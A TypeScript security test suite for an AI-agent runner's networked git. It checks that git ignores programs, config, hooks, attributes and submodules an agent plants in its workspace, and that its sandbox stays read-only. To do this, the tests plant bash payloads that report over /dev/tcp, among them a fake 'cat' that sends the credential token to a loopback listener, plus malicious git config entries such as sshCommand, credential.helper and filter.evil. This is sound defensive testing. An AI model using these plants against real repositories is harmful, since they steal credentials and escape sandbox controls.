// Attacks on the network git (git-remote.ts) from the workspace, on a real runner against a real
// git server: the agent plants programs where a PATH folder of the runner's lies inside the
// workspace (`node_modules/.bin` of a runner started by npm in its project), configuration,
// hooks, attributes and includes in `.git`, and a submodule on the remote. A planted program
// reports to a socket on the host's loopback, which only the networked git can reach (the
// agent's commands and the workspace's git have no network), and leaves a mark in the workspace.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { execFileSync } from "node:child_process";
import { request } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import { createServer, type Server } from "node:net";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  startServer,
  spawnRunner,
  tempDir,
  waitFor,
  type RunnerChild,
  type TestServer,
} from "../../server/testing/runner";
import { gitAt, gitAtAsync, gitRemoteOp, startGitServer, type GitServer } from "../../server/testing/git-server";
import { helperSandbox } from "../exec/helper-sandbox";
import { DEFAULT_LIMITS } from "../exec/limits";
import { sandboxInfo } from "../exec/sandbox";
import { netGit, privateRepo } from "./git-remote";
import { Workspace } from "./workspace";

const TOKEN = "tok_escape_91c2d0aa";
const cred = { username: "alice", token: TOKEN };
const sandbox = sandboxInfo("auto");
let gs: GitServer;
let listener: Server;
let port = 0;
/** What planted programs told the listener, one entry per connection. */
let heard: string[] = [];
let server: TestServer;
let runner: RunnerChild;
let ws: string;
let url: string;
let op: ReturnType<typeof gitRemoteOp>;

/** A bash program named `name` that reports to the listener, marks the workspace, then does what `then` says. */
function plant(path: string, name: string, then = "") {
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(
    path,
    `#!/bin/bash\n{ printf '%s %s\\n' ${JSON.stringify(name)} "$*"; } 2>/dev/null >/dev/tcp/127.0.0.1/${port}\n: 2>/dev/null > ${ws}/.ran-${name}\n${then}\n`,
  );
  chmodSync(path, 0o755);
}
const marks = () => readdirSync(ws).filter((f) => f.startsWith(".ran-"));

/** Commits something new on the remote, so a fetch has objects to bring. */
async function remoteCommit(name: string, extra: string[][] = []): Promise<void> {
  const side = await tempDir("quiver-side-");
  await gitAtAsync(["clone", "-q", `http://alice:${TOKEN}@${gs.host}/demo.git`, side], tmpdir());
  writeFileSync(join(side, name), `${name}\n`);
  for (const args of extra) await gitAtAsync(args, side);
  await gitAtAsync(["add", "-A"], side);
  await gitAtAsync(["commit", "-qm", name], side);
  await gitAtAsync(["push", "-q", "origin", "main"], side);
  rmSync(side, { recursive: true, force: true });
}

/** The test's own git in the workspace, touching neither work tree nor hooks: what the agent
 *  planted in `.git` must not run here either, or the listener would hear the test itself. */
const own = (...args: string[]) =>
  gitAt(
    [...["core.hooksPath=/dev/null", "core.fsmonitor=false", ...OFF].flatMap((c) => ["-c", c]), ...args],
    ws,
  ).trim();
const OFF = ["process", "clean", "smudge"].map((k) => `filter.evil.${k}=`);

/** Fetch, pull, a local commit and push, each of which must succeed. */
async function roundTrip(name: string): Promise<void> {
  await remoteCommit(`${name}-remote.txt`);
  for (const action of ["fetch", "pull"] as const) {
    const r = await op({ action, url, credential: cred });
    expect(r.ok, r.output).toBe(true);
  }
  writeFileSync(join(ws, `${name}.txt`), `${name}\n`);
  const blob = own("hash-object", "-w", "--no-filters", `${name}.txt`);
  own("update-index", "--add", "--cacheinfo", `100644,${blob},${name}.txt`);
  own("update-ref", "refs/heads/main", own("commit-tree", own("write-tree"), "-p", "HEAD", "-m", name));
  const push = await op({ action: "push", url, credential: cred });
  expect(push.ok, push.output).toBe(true);
}

beforeAll(async () => {
  listener = createServer((s) => {
    let text = "";
    s.on("data", (d: Buffer) => (text += d.toString()));
    s.on("close", () => heard.push(text.trim() || "(connected)"));
    s.on("error", () => undefined);
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  port = (listener.address() as { port: number }).port;
  gs = await startGitServer({ alice: TOKEN });
  await gs.createRepo("demo", { "README.md": "hello\n" });
  url = `${gs.url}/demo.git`;
  ws = await tempDir();
  server = await startServer();
  op = gitRemoteOp(server.pool);
  // PATH as npm leaves it for a runner started in the project it serves: the project's
  // node_modules/.bin first; and an empty entry and `.`, which mean the current folder.
  const path = [join(ws, "node_modules/.bin"), "", ".", process.env.PATH].join(":");
  runner = spawnRunner({ url: server.url, workspace: ws, env: { ...process.env, PATH: path } });
  await waitFor(() => server.pool.status().some((r) => r.connected), 20_000, "runner to connect");
  const clone = await op({ action: "clone", url, credential: cred });
  expect(clone.ok, clone.output).toBe(true);
}, 60_000);
afterAll(async () => {
  await runner?.stop();
  await server?.close();
  await gs?.stop();
  listener?.close();
  if (ws) rmSync(ws, { recursive: true, force: true });
});

describe.skipIf(!sandbox.available)("the network git runs nothing the workspace holds", () => {
  it("runs no program from a PATH folder inside the workspace, nor from its top", async () => {
    // Each passes on to the real program, so the workspace's own git keeps working.
    for (const dir of [join(ws, "node_modules/.bin"), ws]) {
      plant(join(dir, "git"), "git", 'exec /usr/bin/git "$@"');
      for (const prog of ["sh", "true"]) plant(join(dir, prog), prog, `exec /bin/${prog} "$@"`);
      // The credential helper's `cat` reads the token from descriptor 3: this one sends it on.
      plant(
        join(dir, "cat"),
        "cat",
        `t=$(/bin/cat "$@"); printf 'cat: %s' "$t" >/dev/tcp/127.0.0.1/${port}; printf %s "$t"`,
      );
      plant(join(dir, "git-remote-http"), "git-remote-http", 'exec /usr/lib/git-core/git-remote-http "$@"');
    }
    heard = [];
    try {
      await roundTrip("path");
      expect(heard.join("\n"), JSON.stringify(heard)).not.toContain(TOKEN);
      expect(heard).toEqual([]);
    } finally {
      rmSync(join(ws, "node_modules"), { recursive: true, force: true });
      for (const prog of ["git", "sh", "cat", "true", "git-remote-http"]) rmSync(join(ws, prog), { force: true });
      for (const m of marks()) rmSync(join(ws, m));
    }
  }, 120_000);

  it("obeys no configuration, hook, include or attribute of the workspace's repository", async () => {
    const pay = (name: string) => {
      const p = join(ws, ".payload", name);
      plant(p, name);
      return p;
    };
    const cfg = join(ws, ".git/config");
    const before = readFileSync(cfg, "utf8");
    const set = (k: string, v: string) => gitAt(["config", "--file", cfg, "--add", k, v], tmpdir());
    const inc = join(ws, "included.cfg");
    writeFileSync(
      inc,
      `[core]\n\tsshCommand = ${pay("included")}\n[credential]\n\thelper = !${pay("included-cred")}\n`,
    );
    for (const [k, v] of [
      ["include.path", inc],
      [`includeIf.gitdir:${ws}/.path`, inc],
      ["core.hooksPath", join(ws, ".hooks")],
      ["core.fsmonitor", pay("fsmonitor")],
      ["core.sshCommand", pay("sshCommand")],
      ["core.askPass", pay("askPass")],
      ["credential.helper", `!${pay("credential")}`],
      ["protocol.allow", "always"],
      ["protocol.ext.allow", "always"],
      [`url.http://127.0.0.1:${port}/.insteadOf`, gs.url],
      ["http.proxy", `http://127.0.0.1:${port}`],
      ["remote.origin.uploadpack", pay("uploadpack")],
      ["remote.origin.receivepack", pay("receivepack")],
      ["core.alternateRefsCommand", pay("alternateRefs")],
      ["uploadpack.packObjectsHook", pay("packObjectsHook")],
      ["filter.evil.clean", pay("clean")],
      ["filter.evil.smudge", pay("smudge")],
      ["filter.evil.process", pay("process")],
      ["diff.evil.textconv", pay("textconv")],
      ["submodule.recurse", "true"],
      ["fetch.recurseSubmodules", "true"],
    ])
      set(k, v);
    for (const hook of ["pre-push", "reference-transaction", "post-merge", "post-checkout", "push-to-checkout"]) {
      plant(join(ws, ".hooks", hook), `hook-${hook}`);
      plant(join(ws, ".git/hooks", hook), `githook-${hook}`);
    }
    writeFileSync(join(ws, ".git/info/attributes"), "* filter=evil diff=evil\n");
    writeFileSync(join(ws, ".gitattributes"), "* filter=evil diff=evil\n");
    heard = [];
    try {
      await roundTrip("config");
      expect(heard).toEqual([]);
      expect(marks()).toEqual([]);
    } finally {
      writeFileSync(cfg, before);
      for (const f of [".git/info/attributes", ".gitattributes"]) rmSync(join(ws, f));
    }
  }, 120_000);

  it("does not follow a submodule the remote names", async () => {
    // A gitlink and a .gitmodules naming a repository behind the listener.
    const sub = "1".repeat(40);
    await remoteCommit("sub.txt", [
      ["config", "--file", ".gitmodules", "submodule.s.path", "s"],
      ["config", "--file", ".gitmodules", "submodule.s.url", `http://127.0.0.1:${port}/s.git`],
      ["update-index", "--add", "--cacheinfo", `160000,${sub},s`],
    ]);
    heard = [];
    const r = await op({ action: "fetch", url, credential: cred });
    expect(r.ok, r.output).toBe(true);
    expect(heard).toEqual([]);
    expect(existsSync(join(ws, ".git/modules"))).toBe(false);
  }, 60_000);
});

/** What a shell run by the network git (a `!` alias: the test's own probe) prints in its sandbox. */
async function probeNetworkSandbox(ws: string, script: string): Promise<string> {
  const workspace = await Workspace.open(ws, { watch: false });
  const helpers = helperSandbox(sandbox, { workspace: workspace.root, hide: [], limits: DEFAULT_LIMITS });
  workspace.helpers.useSandbox(helpers.wrap);
  const repo = await privateRepo();
  try {
    const remote = { url: "https://example.invalid/r.git", host: "example.invalid", protocol: "https" as const };
    const opts = { remote, signal: new AbortController().signal, host: workspace };
    expect((await netGit(repo.dir, ["init", "-q", "--bare", "."], opts)).code).toBe(0);
    const r = await netGit(repo.dir, ["-c", `alias.probe=!${script}`, "probe"], opts);
    return r.stdout;
  } finally {
    await repo.dispose();
    workspace.dispose();
    await helpers.dispose();
  }
}

describe.skipIf(!sandbox.available)("the network git's sandbox", () => {
  it("has the workspace read-only", async () => {
    const dir = realpathSync(mkdtempSync(join(tmpdir(), "quiver-ro-")));
    try {
      writeFileSync(join(dir, "kept.txt"), "kept\n");
      const out = await probeNetworkSandbox(
        dir,
        `cat ${dir}/kept.txt; touch ${dir}/new.txt && echo wrote-new; echo x >> ${dir}/kept.txt && echo wrote-kept; mkdir ${dir}/.git/x && echo made-dir; true`,
      );
      expect(out).toContain("kept");
      expect(out).not.toMatch(/wrote-new|wrote-kept|made-dir/);
      expect(readdirSync(dir)).toEqual(["kept.txt"]);
      expect(readFileSync(join(dir, "kept.txt"), "utf8")).toBe("kept\n");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);

  it("shows the operator's CA bundles inside a masked home read-only, and nothing beside them", async () => {
    // The runner's home is masked in the sandbox (host-secrets.ts); the bundles lie in it.
    const home = process.env.HOME ?? "/root";
    const certs = realpathSync(mkdtempSync(join(home, ".quiver-test-certs-")));
    const dir = realpathSync(mkdtempSync(join(tmpdir(), "quiver-ca-ws-")));
    const global = join(certs, "gitconfig");
    const saved = { cainfo: process.env.GIT_SSL_CAINFO, global: process.env.GIT_CONFIG_GLOBAL };
    try {
      writeFileSync(join(certs, "env-ca.pem"), "ENV CA\n");
      writeFileSync(join(certs, "config-ca.pem"), "CONFIG CA\n");
      writeFileSync(join(certs, "secret.txt"), "NOT FOR GIT\n");
      writeFileSync(global, `[http]\n\tsslCAInfo = ${certs}/config-ca.pem\n`);
      process.env.GIT_SSL_CAINFO = join(certs, "env-ca.pem");
      process.env.GIT_CONFIG_GLOBAL = global;
      const out = await probeNetworkSandbox(
        dir,
        `cat ${certs}/env-ca.pem ${certs}/config-ca.pem; ls -A ${certs} | sed s/^/listed:/; cat ${certs}/secret.txt; ` +
          `echo x >> ${certs}/env-ca.pem && echo wrote-ca; git config http.sslCAInfo | sed s/^/config:/; true`,
      );
      expect(out).toContain("ENV CA");
      expect(out).toContain("CONFIG CA");
      expect(out).toContain(`config:${certs}/config-ca.pem`);
      expect(out.match(/^listed:.*$/gm)?.sort()).toEqual(["listed:config-ca.pem", "listed:env-ca.pem"]);
      expect(out).not.toContain("NOT FOR GIT");
      expect(out).not.toContain("wrote-ca");
      expect(readFileSync(join(certs, "env-ca.pem"), "utf8")).toBe("ENV CA\n");
    } finally {
      for (const [k, v] of [
        ["GIT_SSL_CAINFO", saved.cainfo],
        ["GIT_CONFIG_GLOBAL", saved.global],
      ] as const)
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      rmSync(certs, { recursive: true, force: true });
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

/** An https front for `target` (the git server), its self-signed certificate written in `dir`. */
async function httpsFront(target: string, dir: string): Promise<{ url: string; close(): void }> {
  const [key, cert] = [join(dir, "key.pem"), join(dir, "ca.pem")];
  execFileSync(
    "openssl",
    ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", cert, "-days", "2"].concat([
      "-subj",
      "/CN=127.0.0.1",
      "-addext",
      "subjectAltName=IP:127.0.0.1",
    ]),
    { stdio: "ignore" },
  );
  const to = new URL(target);
  const s = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (req, res) => {
    const out = request(
      { host: to.hostname, port: to.port, path: req.url, method: req.method, headers: req.headers },
      (r) => (res.writeHead(r.statusCode ?? 502, r.headers), r.pipe(res)),
    );
    req.pipe(out);
  });
  await new Promise<void>((resolve) => s.listen(0, "127.0.0.1", resolve));
  rmSync(key);
  return { url: `https://127.0.0.1:${(s.address() as { port: number }).port}`, close: () => s.close() };
}

describe.skipIf(!sandbox.available)("an https remote whose CA the operator keeps in a masked home", () => {
  it("clones, fetches and pushes with the runner's GIT_SSL_CAINFO", async () => {
    const certs = realpathSync(mkdtempSync(join(process.env.HOME ?? "/root", ".quiver-test-certs-")));
    const front = await httpsFront(gs.url, certs);
    const dir = await tempDir();
    // A server and runner of its own: the runner reads GIT_SSL_CAINFO from its environment.
    const own = await startServer();
    const other = spawnRunner({
      url: own.url,
      workspace: dir,
      env: { ...process.env, GIT_SSL_CAINFO: join(certs, "ca.pem") },
    });
    try {
      await waitFor(() => own.pool.status().some((r) => r.connected), 20_000, "runner to connect");
      const tls = gitRemoteOp(own.pool);
      const remote = `${front.url}/demo.git`;
      const clone = await tls({ action: "clone", url: remote, credential: cred });
      expect(clone.ok, clone.output).toBe(true);
      expect(existsSync(join(dir, "README.md"))).toBe(true);
      const fetch = await tls({ action: "fetch", url: remote, credential: cred });
      expect(fetch.ok, fetch.output).toBe(true);
      writeFileSync(join(dir, "tls.txt"), "tls\n");
      gitAt(["add", "tls.txt"], dir);
      gitAt(["commit", "-qm", "tls"], dir);
      const push = await tls({ action: "push", url: remote, credential: cred });
      expect(push.ok, push.output).toBe(true);
      expect(gs.revParse("demo", "main")).toBe(gitAt(["rev-parse", "HEAD"], dir).trim());
    } finally {
      await other.stop();
      await own.close();
      front.close();
      rmSync(certs, { recursive: true, force: true });
      rmSync(dir, { recursive: true, force: true });
    }
  }, 90_000);
});
